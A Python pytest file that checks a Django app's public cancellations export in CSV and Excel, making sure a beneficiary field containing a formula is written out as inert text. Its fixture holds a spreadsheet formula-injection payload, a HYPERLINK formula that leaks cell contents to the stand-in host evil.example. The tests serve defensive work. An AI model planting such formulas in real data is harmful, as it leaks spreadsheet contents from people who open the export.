"""A retirement's beneficiary is free text shown on a public download: a formula in it must reach
the spreadsheet as text, not run (CSV and Excel)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from voluntary import clock, services
from voluntary.models import CreditUse

from .test_uses import USE_DAY

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for certificate")'


@pytest.fixture
def hostile_retirement(issued, owner):
    with clock.frozen(USE_DAY):
        return services.credit_retire(actor=owner, instrument_code=issued[1].instrument_code, quantity=1200,
                                      beneficiary=FORMULA, purpose=CreditUse.Purpose.EVENT)


def test_public_cancellations_csv_neutralises_the_beneficiary(client, hostile_retirement):
    response = client.get("/voluntary/public/cancellations/?export=csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(r for r in rows if r["code"] == hostile_retirement.code)
    assert row["beneficiary"] == "'" + FORMULA
    assert row["quantity"] == "1200"


def test_public_cancellations_excel_neutralises_the_beneficiary(client, hostile_retirement):
    response = client.get("/voluntary/public/cancellations/?export=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    header, *rows = sheet.iter_rows()
    column = {cell.value: index for index, cell in enumerate(header)}
    row = next(r for r in rows if r[column["code"]].value == hostile_retirement.code)
    beneficiary = row[column["beneficiary"]]
    assert beneficiary.value == "'" + FORMULA and beneficiary.data_type == "s"  # text, not a formula
    assert row[column["quantity"]].value == 1200 and row[column["quantity"]].data_type == "n"
